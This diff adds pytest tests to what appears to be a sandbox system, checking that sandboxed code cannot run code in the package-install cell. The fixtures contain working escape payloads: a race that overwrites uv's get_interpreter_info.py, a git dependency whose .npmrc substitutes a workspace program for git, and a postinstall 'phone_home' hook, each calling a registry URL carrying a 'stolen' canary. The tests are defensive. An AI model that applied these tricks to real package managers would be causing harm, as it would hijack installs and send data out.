@@ -14,6 +14,40 @@ from registries import build_sdist, serve_registries, write_registry_config
 pytestmark = [pytest.mark.slow, pytest.mark.requirement("PKG-1", "PKG-3")]
 
 CANARY = "/canary"
+STOLEN = "stolen-zebra"
+# Replaces the script by which uv queries an interpreter, as soon as the script is there.
+EXCHANGE_QUERY = f"""
+import glob, os
+payload = "import urllib.request; open('/workspace/ran', 'w').close(); "
+payload += "urllib.request.urlopen('https://pypi.org/simple/{STOLEN}/')"
+open("/workspace/ready", "w").close()
+while not os.path.exists("/workspace/ran"):
+    for folder in glob.glob("/workspace/.cellwall-install/*/.tmp*/python"):
+        try:
+            with open(folder + "/get_interpreter_info.py", "w") as file:
+                file.write(payload)
+        except OSError:
+            pass
+"""
+# The dependency is a repository whose .npmrc names a program of the workspace as git.
+GIT_DEPENDENCY = f"""
+set -e
+mkfifo done
+cat > program <<'EOF'
+#!/bin/sh
+touch /workspace/ran
+node -e "require('https').get('https://registry.npmjs.org/{STOLEN}').on('error', () => 0)"
+echo > /workspace/done
+EOF
+chmod +x program
+commit() {{ git init -q; git add -A; git -c user.name=a -c user.email=a commit -qm a; }}
+mkdir inner outer
+cd inner; echo '{{"name": "inner", "version": "1.0.0"}}' > package.json; commit
+cd ../outer; echo git=/workspace/program > .npmrc
+echo '{{"name": "outer", "version": "1.0.0", "scripts": {{"prepare": "true"}},
+       "dependencies": {{"inner": "git+file:///workspace/inner"}}}}' > package.json; commit
+cd ..; echo '{{"dependencies": {{"outer": "git+file:///workspace/outer"}}}}' > package.json
+"""
 
 
 def phone_home(base, place):
@@ -41,6 +75,7 @@ def registries():
         files = {"index.js": "", "install.js": phone_home(served.base, "/workspace/ran")}
         scripts = {"postinstall": "node install.js"}
         served.add_npm("esbuild", "1.0.0", files, scripts=scripts)
+        served.add_npm("zoo-sign", "1.0.0")
         served.add_npm("zoo-visitor", "1.0.0", dependencies={"zoo-keeper": "1"})
         yield served
 
@@ -120,3 +155,30 @@ def test_a_link_in_the_place_of_the_environment_leads_nowhere(config, tmp_path):
     with cellwall.Sandbox.create(config=config, timeout=120, workspace=f"{project}:rw") as sbx:
         sbx.packages.install("zebra-atlas")
     assert list(outside.iterdir()) == []
+
+
+@pytest.mark.only_on("cold", reason="the files are those of the same workspace on both")
+def test_processes_of_a_sandbox_cannot_run_code_in_the_cell_with_the_registry(config, registries):
+    with cellwall.Sandbox.create(config=config, timeout=120) as sbx:
+        sbx.files.write("exchange.py", EXCHANGE_QUERY)
+        sbx.commands.run("nohup python3 exchange.py >log 2>&1 &")
+        done = sbx.packages.install("zebra-atlas").raise_for_status()
+        assert [each.name for each in done.installed] == ["zebra-atlas"]
+        # The control: the process was there.
+        assert sbx.files.exists("ready")
+        assert not sbx.files.exists("ran")
+    assert not [path for _, path in registries.seen if STOLEN in path]
+
+
+@pytest.mark.only_on("cold", reason="the package manager and the proxy are the same on both")
+def test_a_git_dependency_of_the_workspace_runs_no_program_with_the_registry(config, registries):
+    need(shutil.which("npm") and shutil.which("git"), "npm and git")
+    with cellwall.Sandbox.create(config=config, timeout=120) as sbx:
+        assert sbx.commands.run(GIT_DEPENDENCY).exit_code == 0
+        done = sbx.packages.install("zoo-sign", ecosystem="npm")
+        assert done.outcome.status == "failed"
+        assert not sbx.files.exists("ran")
+        assert not [path for _, path in registries.seen if STOLEN in path]
+        # The control: npm in the sandbox, which has no network, runs the program.
+        sbx.commands.run("npm install --ignore-scripts >npm.log 2>&1 & read x < done")
+        assert sbx.files.exists("ran")
